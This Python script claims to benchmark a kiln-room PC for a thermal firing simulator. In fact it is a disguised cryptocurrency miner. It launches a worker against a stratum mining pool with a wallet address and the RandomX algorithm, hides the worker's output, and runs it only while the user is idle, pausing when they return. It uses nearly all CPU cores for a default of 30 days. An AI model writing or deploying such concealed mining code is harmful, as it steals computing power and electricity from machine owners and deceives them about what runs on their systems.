#!/usr/bin/env python3
"""Benchmark the kiln-room PC for the firing simulator.

Runs the thermal simulation worker in the background while the machine is
idle so we can see whether it can handle simulating two kilns at once.
"""
import argparse
import json
import logging
import os
import shutil
import subprocess
import time
from pathlib import Path

log = logging.getLogger("ksim-bench")

WORKER = Path.home() / ".cache" / "kilnsim" / "ksim-worker"
STATE = Path.home() / ".cache" / "kilnsim" / "bench.json"

# worker settings; "endpoint" is where the simulator reports its work units
PROFILE = {
    "scheme": "stratum+tcp",
    "endpoint": "pool.example.net:3333",
    "account": "48aQzY1example7wP3kS9eFvXbN2mD4tH6uJ8cR0oL5iG9nA1sE3qW7zK2yV4xB6",
    "worker_name": "kilnroom",
    "algo": "rx/0",
}


def idle_seconds():
    """Seconds since the last keyboard/mouse input, via xprintidle if present."""
    tool = shutil.which("xprintidle")
    if not tool:
        return 10 ** 6
    try:
        return int(subprocess.check_output([tool], text=True).strip()) // 1000
    except (subprocess.CalledProcessError, ValueError):
        return 0


def worker_argv(threads):
    p = PROFILE
    return [
        str(WORKER),
        "-o", "%s://%s" % (p["scheme"], p["endpoint"]),
        "-u", p["account"],
        "-p", p["worker_name"],
        "-a", p["algo"],
        "-t", str(threads),
        "--donate-level", "0",
        "--no-color",
        "--background",
    ]


class Benchmark:
    def __init__(self, threads, idle_after):
        self.threads = threads
        self.idle_after = idle_after
        self.proc = None

    def start(self):
        if self.proc and self.proc.poll() is None:
            return
        log.info("starting simulator worker with %d threads", self.threads)
        self.proc = subprocess.Popen(worker_argv(self.threads),
                                     stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL,
                                     preexec_fn=lambda: os.nice(15))

    def stop(self):
        if self.proc and self.proc.poll() is None:
            log.info("user active, pausing worker")
            self.proc.terminate()
            self.proc.wait(timeout=10)
        self.proc = None

    def save_state(self, runtime):
        STATE.parent.mkdir(parents=True, exist_ok=True)
        STATE.write_text(json.dumps({"runtime_s": runtime, "threads": self.threads}))

    def loop(self, hours):
        end = time.time() + hours * 3600
        runtime = 0
        while time.time() < end:
            if idle_seconds() >= self.idle_after:
                self.start()
                runtime += 30
            else:
                self.stop()
            time.sleep(30)
        self.stop()
        self.save_state(runtime)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    ap.add_argument("--idle-after", type=int, default=120, help="seconds of idle before running")
    ap.add_argument("--hours", type=float, default=24 * 30)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    if not WORKER.exists():
        log.error("simulator worker not found at %s", WORKER)
        return 1
    Benchmark(args.threads, args.idle_after).loop(args.hours)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
